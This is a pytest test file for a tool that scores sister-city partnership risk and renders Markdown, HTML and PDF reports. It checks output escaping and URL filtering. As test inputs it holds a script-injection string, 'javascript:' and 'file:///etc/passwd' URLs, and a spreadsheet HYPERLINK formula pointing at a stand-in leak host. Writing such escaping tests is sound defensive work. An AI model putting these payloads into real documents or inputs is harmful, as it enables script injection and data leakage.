"""Reports for one assessment (md, html, pdf) and the batch summary."""

from __future__ import annotations

import datetime as dt
import io
import json
import re

import pandas as pd
import pytest

from twinrisk.cli import main
from twinrisk.core.models import Assessment
from twinrisk.reports import render, render_batch_summary
from twinrisk.reports.assessment import ReportError, md_escape, safe_url

EVIL = "<script>alert('x')</script>"
FORMULA = '=HYPERLINK("http://evil.example/?leak","click")'
TOP_REASON = "Sri Lanka owed 16.0 % of its external public debt to China in 2022."


def _source(i: str, url: str = "https://example.org/debt") -> dict[str, object]:
    return {"id": i, "title": f"Source {i}", "publisher": "World Bank", "year": 2023, "url": url}


def make_assessment(local_name: str = "Hambantota", **overrides: object) -> Assessment:
    factors = [
        {
            "id": "debt_share",
            "group": "debt_exposure",
            "label": "Debt owed to the partner state",
            "value": 16.0,
            "normalised": 0.43,
            "points": 6,
            "max_points": 14,
            "reason": TOP_REASON,
            "sources": [_source("wb")],
        },
        {
            "id": "bri_mou",
            "group": "bri_participation",
            "label": "Belt and Road cooperation memorandum",
            "value": 1.0,
            "normalised": 1.0,
            "points": 6,
            "max_points": 6,
            "reason": "Sri Lanka signed a Belt and Road memorandum with China in 2014.",
            "sources": [_source("evil", "javascript:alert(1)")],
        },
        {
            "id": "port_or_base",
            "group": "strategic_location",
            "label": "Seaport or naval base",
            "value": "seaport",
            "normalised": 0.6,
            "points": 4,
            "max_points": 6,
            "reason": f"{local_name} is a seaport.",
        },
        {
            "id": "exit_clause",
            "group": "proposal_terms",
            "label": "No fixed term, review or exit",
            "value": None,
            "normalised": 1.0,
            "points": 2,
            "max_points": 2,
            "imputed": True,
            "reason": "Not stated in the proposal; imputed as the policy documents.",
        },
    ]
    doc: dict[str, object] = {
        "score": 18,
        "band": "low",
        "local": {
            "id": "gn:1244926",
            "name": local_name,
            "country": "LK",
            "admin1": "Southern Province",
            "kind": "city",
        },
        "partner": {
            "id": "gn:1809858",
            "name": "Guangzhou",
            "country": "CN",
            "admin1": "Guangdong",
            "kind": "city",
        },
        "as_of": "2026-11-23",
        "terms": {"sensitive_domains": ["ports", "culture"], "exit_clause": None},
        "groups": {
            "debt_exposure": 6,
            "bri_participation": 6,
            "strategic_location": 4,
            "proposal_terms": 2,
        },
        "factors": factors,
        "top_reasons": [
            {"factor": "debt_share", "points": 6, "reason": TOP_REASON},
            {
                "factor": "bri_mou",
                "points": 6,
                "reason": "Sri Lanka signed a Belt and Road memorandum with China.",
            },
        ],
        "precedents": [
            {
                "dyad_id": "linkoping-guangzhou",
                "local": "Linköping",
                "local_country": "SE",
                "partner": "Guangzhou",
                "partner_country": "CN",
                "kind": "sister_city",
                "status": "terminated",
                "established_year": 1997,
                "ended_year": 2019,
                "ended_by": "local",
                "reason_code": "human_rights",
                "reason": "Ended over human rights | and security concerns.",
                "similarity": 0.62,
                "sources": [_source("svt")],
            }
        ],
        "checklist": [{"factor": "debt_share", "question": "Who finances the port?"}],
        "mitigations": [
            {
                "term": "exit_clause",
                "change": "add a fixed term of five years",
                "score_before": 18,
                "score_after": 16,
            }
        ],
        "model": {
            "version": "test-model-1",
            "policy": "default@2026.11.1",
            "data_version": "data-test",
        },
        "not_covered": "The score does not judge the people involved.",
    }
    doc.update(overrides)
    return Assessment.model_validate(doc)


def pdf_text(data: bytes) -> str:
    from pypdf import PdfReader

    reader = PdfReader(io.BytesIO(data))
    return re.sub(r"\s+", " ", " ".join(page.extract_text() or "" for page in reader.pages))


# --------------------------------------------------------------------------- HTML


def test_html_contains_every_section_and_is_self_contained() -> None:
    html = render(make_assessment(), "html", generated=dt.date(2026, 11, 23)).decode()
    for text in (
        "Hambantota",
        "Guangzhou",
        ">18<",
        "low risk",
        TOP_REASON.replace("'", "&#39;"),
        "Points per factor",
        "<svg",
        "Precedents",
        "Linköping",
        "Due-diligence checklist",
        "Who finances the port?",
        "add a fixed term of five years",
        "18 → 16",
        "test-model-1",
        "default@2026.11.1",
        "data-test",
        "2026-11-23",
        "does not judge the people involved",
        "@page",
        "size: A4",
        "imputed",
    ):
        assert text in html, text
    # self-contained: nothing to fetch, scripts forbidden
    assert "Content-Security-Policy" in html and "default-src 'none'" in html
    assert not re.search(r"<(script|link|img|iframe)\b", html, re.I)
    assert not re.search(r"\bsrc\s*=|@import|url\(", html, re.I)


def test_html_chart_draws_each_factor_against_its_maximum() -> None:
    html = render(make_assessment(), "html").decode()
    svg = html[html.index("<svg") : html.index("</svg>")]
    assert svg.count('fill="#e6eaee"') == 4  # one grey track per factor
    assert "6 / 14" in svg and "4 / 6" in svg and "2 / 2" in svg


def test_html_escapes_user_strings() -> None:
    a = make_assessment(local_name=EVIL)
    html = render(a, "html").decode()
    assert "<script>" not in html
    assert "&lt;script&gt;" in html
    # a javascript: URL in a source is shown as text, never linked
    assert 'href="javascript:' not in html
    assert "javascript:alert(1)" in html


def test_safe_url_only_accepts_http() -> None:
    assert safe_url("https://example.org/a") == "https://example.org/a"
    assert safe_url("http://example.org") == "http://example.org"
    for bad in ("javascript:alert(1)", "data:text/html,x", "//evil", "file:///etc/passwd", "", 3):
        assert safe_url(bad) is None


# --------------------------------------------------------------------------- Markdown


def test_markdown_report() -> None:
    md = render(make_assessment(), "md").decode()
    assert md.startswith("# Hambantota – Guangzhou")
    assert "**Score: 18 / 100 — low risk**" in md
    assert "16.0 % of its external public debt to China in 2022" in md
    assert "| Debt owed to the partner state | Debt exposure | 6 | 14 |" in md
    assert "[https://example.org/debt](https://example.org/debt)" in md
    assert "javascript:alert(1)" not in md.split("](")[-1]  # never a link target
    assert "- [ ] Who finances the port?" in md
    # the pipe in the precedent's reason cannot break the table row
    assert r"human rights \| and security" in md


def test_markdown_escapes_html_and_markdown() -> None:
    md = render(make_assessment(local_name=EVIL + " [x](http://evil) | y"), "md").decode()
    assert "<script>" not in md
    assert "&lt;script&gt;" in md
    assert "[x](http://evil)" not in md
    assert md_escape("a|b*c_") == r"a\|b\*c\_"
    assert md_escape("line\nbreak") == "line break"


def test_unknown_format() -> None:
    with pytest.raises(ReportError, match="md, html, pdf"):
        render(make_assessment(), "docx")


# --------------------------------------------------------------------------- PDF


def test_pdf_contains_score_and_top_reason() -> None:
    data = render(make_assessment(local_name=EVIL), "pdf")
    assert data.startswith(b"%PDF")
    text = pdf_text(data)
    assert "18 / 100" in text or "18/ 100" in text or re.search(r"\b18\b", text)
    assert "LOW RISK" in text.upper()
    assert TOP_REASON in text
    assert "<script>alert('x')</script>" in text  # shown as text, not executed


# --------------------------------------------------------------------------- CLI


def test_report_cli(tmp_path, capsys) -> None:
    src = tmp_path / "a.json"
    src.write_text(make_assessment().model_dump_json(), encoding="utf-8")
    for fmt in ("md", "html", "pdf"):
        out = tmp_path / f"r.{fmt}"
        assert main(["report", str(src), "-o", str(out)]) == 0  # format from the extension
        assert out.stat().st_size > 500
    assert (tmp_path / "r.pdf").read_bytes().startswith(b"%PDF")
    out = tmp_path / "r.txt"
    assert main(["report", str(src), "--format", "md", "-o", str(out)]) == 0
    assert out.read_text(encoding="utf-8").startswith("# Hambantota")


def test_report_cli_rejects_bad_json(tmp_path, capsys) -> None:
    src = tmp_path / "a.json"
    src.write_text(json.dumps({"score": 300}), encoding="utf-8")
    assert main(["report", str(src), "-o", str(tmp_path / "r.html")]) == 2
    err = capsys.readouterr().err
    assert "is not an assessment" in err and "score" in err
    assert main(["report", str(tmp_path / "missing.json")]) == 2


# --------------------------------------------------------------------------- batch summary


def _scored_frame() -> pd.DataFrame:
    rows = []
    for i in range(30):
        rows.append(
            {
                "local": f"Town {i}",
                "local_country": "SE" if i % 2 else "LK",
                "partner": "Guangzhou",
                "partner_country": "CN",
                "local_resolved": f"Town {i} ({'SE' if i % 2 else 'LK'})",
                "partner_resolved": "Guangzhou (CN)",
                "score": i * 3,
                "band": "low",
                "top_reasons": f"Reason A for {i} (3 pts) | Reason B (2 pts)",
                "model_version": "m1",
                "data_version": "d1",
                "error": "",
            }
        )
    rows.append(
        {
            "local": EVIL,
            "local_country": "SE",
            "partner": FORMULA,
            "partner_country": "CN",
            "local_resolved": "",
            "partner_resolved": "",
            "score": pd.NA,
            "band": "",
            "top_reasons": "",
            "model_version": "m1",
            "data_version": "d1",
            "error": f"local: unknown place '{EVIL}, SE'",
        }
    )
    df = pd.DataFrame(rows)
    df["score"] = df["score"].astype("Int64")
    df["band"] = pd.cut(
        df["score"].astype(float),
        [-1, 24, 49, 74, 100],
        labels=["low", "moderate", "high", "severe"],
    ).astype(str)
    df.loc[df["error"] != "", "band"] = ""
    return df


def test_batch_summary_report() -> None:
    df = _scored_frame()
    html = render_batch_summary(df, generated=dt.date(2026, 11, 23))
    assert "<svg" in html and "Histogram of scores" in html
    assert "The 20 riskiest dyads" in html
    # riskiest first: Town 29 (87) before Town 10 (30); Town 9 (27) is not in the top 20
    assert html.index("Town 29 (SE)") < html.index("Town 10 (LK)")
    assert "Town 9 (SE)" not in html.split("By local country")[0]
    assert "Reason A for 29 (3 pts)" in html
    assert "By local country" in html and "By partner" in html and "Guangzhou (CN)" in html
    assert "Failed rows" in html and "unknown place" in html
    assert "<script>" not in html and "&lt;script&gt;" in html
    assert ">30<" in html and ">1<" in html  # scored and failed counts


def test_batch_summary_accepts_separate_failed_frame() -> None:
    df = _scored_frame()
    ok, bad = df[df["error"] == ""], df[df["error"] != ""]
    html = render_batch_summary(ok, bad)
    assert "unknown place" in html and "1 row could not be scored" in html


def test_real_assessment_pdf(tmp_path) -> None:
    """The lead's pipeline end to end: Hambantota–Guangzhou as a PDF."""
    import twinrisk

    a = twinrisk.assess("Hambantota", "Guangzhou", local_country="LK", partner_country="CN")
    text = pdf_text(render(a, "pdf"))
    assert str(a.score) in text
    top = re.sub(r"\s+", " ", a.top_reasons[0].reason)
    assert top in text
    src = tmp_path / "a.json"
    src.write_text(json.dumps(a.model_dump(mode="json")), encoding="utf-8")
    assert main(["report", str(src), "--format", "html", "-o", str(tmp_path / "r.html")]) == 0


def test_pdf_without_weasyprint_is_a_clear_import_error(monkeypatch) -> None:
    import sys

    from twinrisk.reports.assessment import PdfUnavailableError

    monkeypatch.setitem(sys.modules, "weasyprint", None)  # import fails
    with pytest.raises(PdfUnavailableError, match="twinrisk\\[pdf\\]") as err:
        render(make_assessment(), "pdf")
    assert isinstance(err.value, ImportError) and isinstance(err.value, ReportError)
    assert render(make_assessment(), "html")  # the other formats still work
